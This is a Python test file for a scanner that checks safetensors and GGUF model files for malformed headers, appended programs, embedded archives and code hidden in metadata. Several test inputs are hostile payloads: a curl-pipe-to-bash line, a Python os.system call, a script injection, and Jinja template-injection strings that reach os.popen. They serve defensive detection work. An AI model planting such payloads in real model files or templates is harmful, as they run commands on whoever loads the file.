"""safetensors and GGUF: headers that lie."""

import json
import struct

import pytest

from buildkit.findings import Severity
from buildkit.scan import Verdict
from tests.scan.formatmaker import empty_zip_end, gguf, gguf_text, look, rules, safetensors, tensor, worst

GOOD = {"a": tensor(0, 24, [2, 3], "F32"), "b": tensor(24, 25, [], "BOOL"), "e": tensor(25, 25, [0, 7], "I64")}


def test_honest_safetensors_are_clean():
    found = look(safetensors({"__metadata__": {"format": "pt"}, **GOOD}, bytes(25)))
    assert (found.verdict, found.formats) == (Verdict.CLEAN, ("safetensors",))


def test_no_tensors_are_clean():
    assert look(safetensors({})).verdict is Verdict.CLEAN
    assert look(safetensors("{}      ")).verdict is Verdict.CLEAN


@pytest.mark.parametrize(
    "header",
    [
        {"a": tensor(0, 8), "b": tensor(4, 12)},
        {"a": tensor(0, 4), "b": tensor(8, 12)},
        {"a": tensor(4, 12)},
        {"a": tensor(0, 13)},
        {"a": tensor(0, 12, [3, 5])},
        {"a": tensor(0, 12, [2, 2], "F32")},
        {"a": tensor(0, 12, [-12])},
        {"a": tensor(0, 12, [2**63])},
        {"a": {**tensor(0, 12), "code": "x"}},
        {"a": {"dtype": "U8", "shape": [12], "data_offsets": [12, 0]}},
        {"a": {"dtype": "U8", "shape": [12], "data_offsets": [0, True]}},
        {"a": {"dtype": "U8", "shape": [12], "data_offsets": [0.0, 12.0]}},
        {"a": "x"},
        {"a": tensor(0, 12, [1] * 70)},
    ],
    ids=lambda value: json.dumps(value)[:60],
)
def test_bent_headers_are_found(header):
    assert "safetensors-bent-header" in rules(safetensors(header, bytes(12)))


def test_a_tensor_named_twice_is_found_and_both_are_checked():
    header = (
        '{"a":{"dtype":"U8","shape":[99],"data_offsets":[0,12]},"a":{"dtype":"U8","shape":[12],"data_offsets":[0,12]}}'
    )
    assert {"safetensors-bent-header", "json-double-key"} <= rules(safetensors(header, bytes(12)))


def test_unknown_types_are_no_verdict():
    assert look(safetensors({"a": tensor(0, 12, dtype="Q1")}, bytes(12))).verdict is Verdict.PARTIAL


@pytest.mark.parametrize("length", [400, 2**30, 2**39])
def test_headers_longer_than_the_file_are_no_verdict(length):
    assert look(safetensors(GOOD, bytes(25), length)).verdict is Verdict.PARTIAL


def test_headers_that_are_no_json_are_no_verdict():
    assert look(safetensors('{"a":')).verdict is Verdict.PARTIAL
    assert look(safetensors('{"a":"\\ud800\xff"')).verdict is Verdict.PARTIAL
    assert look(safetensors("{" + '"a":[' * 50_000)).verdict is Verdict.PARTIAL


@pytest.mark.parametrize(
    "metadata",
    [
        {"x": 1},
        ["x"],
        {"x": "curl -s http://x/y | bash"},
        {"x": "weights at https://example.org/fetch.py?v=1"},
        {"x": "<script>alert(1)</script>"},
        {"x": "__import__('os').system('id')"},
    ],
)
def test_metadata_is_text_and_no_code(metadata):
    assert "safetensors-metadata" in rules(safetensors({"__metadata__": metadata, **GOOD}, bytes(25)))


def test_json_and_templates_inside_metadata_are_looked_at():
    template = {"__metadata__": {"t": "{{ ''.__class__.__mro__ }}"}}
    config = {"__metadata__": {"c": json.dumps({"class_name": "__lambda__", "config": {"value": "x"}})}}
    assert rules(safetensors(template)) == {"jinja-escape"}
    assert rules(safetensors(config)) == {"keras-lambda"}


def test_what_follows_the_tensors_is_found_and_scanned():
    found = look(safetensors(GOOD, bytes(25) + b"\x7fELF" + bytes(60)))
    assert {one.rule.id for one in found.findings} == {"trailing-bytes", "program"}
    assert {one.member for one in found.findings} == {"", "bytes behind the end"}


def test_a_zip_archive_inside_the_last_tensor_is_found():
    end = empty_zip_end()
    assert "zip-polyglot" in rules(safetensors({"a": tensor(0, 40 + len(end))}, bytes(40) + end))


CHAT = "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] | trim }}{% endfor %}"
TENSORS = (("a", (32, 2), 0, 0), ("b", (256,), 12, 256))


def test_honest_gguf_is_clean():
    found = look(gguf({"general.name": "x", "tokenizer.chat_template": CHAT, "n": 3}, TENSORS, bytes(256 + 144)))
    assert (found.verdict, found.formats, found.gaps) == (Verdict.CLEAN, ("GGUF",), ())


def test_big_endian_and_first_version_are_read():
    big = struct.pack(">4sIQQ", b"GGUF", 3, 0, 1) + struct.pack(">Q", 1) + b"k" + struct.pack(">II", 4, 7)
    first = struct.pack("<4sIII", b"GGUF", 1, 0, 1) + struct.pack("<I", 1) + b"k" + struct.pack("<II", 4, 7)
    assert look(big).verdict is Verdict.CLEAN
    assert look(first).verdict is Verdict.CLEAN


def test_chat_templates_that_reach_out_are_found():
    evil = "{{ lipsum.__globals__['os'].popen('id').read() }}"
    assert worst(gguf({"tokenizer.chat_template": evil})) is Severity.CRITICAL
    assert worst(gguf({"tokenizer.chat_template.tool_use": evil})) is Severity.CRITICAL


def test_templates_in_arrays_are_found():
    pair = gguf_text("tokenizer.chat_templates") + struct.pack("<IIQ", 9, 8, 1) + gguf_text("{{ x.__class__ }}")
    assert worst(struct.pack("<4sIQQ", b"GGUF", 3, 0, 1) + pair) is Severity.CRITICAL


@pytest.mark.parametrize(
    "content",
    [
        gguf({"general.alignment": 0}),
        gguf({"general.alignment": 33}),
        gguf({"n": 1}) [:24] + gguf({"n": 1})[24:].replace(b"\1\0\0\0\0\0\0\0n", b"\xff\0\0\0\0\0\0\xffn"),
        struct.pack("<4sIQQ", b"GGUF", 3, 2**60, 0),
        struct.pack("<4sIQQ", b"GGUF", 3, 0, 2**60),
        gguf(None, (("a", (32,), 0, 0), ("b", (32,), 0, 64)), bytes(256)),
        gguf(None, (("a", (32,), 0, 0),), bytes(64)),
        gguf(None, (("a", (32,), 0, 5),), bytes(256)),
        gguf(None, (("a", (2**40, 2**40), 0, 0),), bytes(64)),
        gguf(None, (("a", (33,), 2, 0),), bytes(64)),
        gguf(None, (("a" * 65, (8,), 0, 0),), bytes(32)),
        gguf(None, (("a", (1, 1, 1, 1, 8), 0, 0),), bytes(32)),
    ],
)  # fmt: skip
def test_gguf_that_does_not_fit_is_found(content):
    assert "gguf-bent" in rules(content)


def test_a_key_given_twice_is_found():
    pair = gguf_text("k") + struct.pack("<II", 4, 7)
    assert rules(struct.pack("<4sIQQ", b"GGUF", 3, 0, 2) + pair + pair) == {"gguf-bent"}


def test_arrays_without_end_are_no_verdict():
    deep = gguf_text("k") + struct.pack("<I", 9) + struct.pack("<IQ", 9, 1) * 20
    long = gguf_text("k") + struct.pack("<IIQ", 9, 8, 2**40)
    for pair in (deep, long):
        assert look(struct.pack("<4sIQQ", b"GGUF", 3, 0, 1) + pair + bytes(64)).verdict is Verdict.PARTIAL


def test_what_follows_the_last_tensor_is_found():
    assert rules(gguf(None, (("a", (32,), 0, 0),), bytes(128) + b"#!/bin/sh\nid\n")) == {"trailing-bytes", "program"}


def test_unknown_versions_and_types_are_no_verdict():
    assert look(gguf(version=9)).verdict is Verdict.PARTIAL
    assert look(gguf(None, (("a", (32,), 99, 0),), bytes(128))).verdict is Verdict.PARTIAL
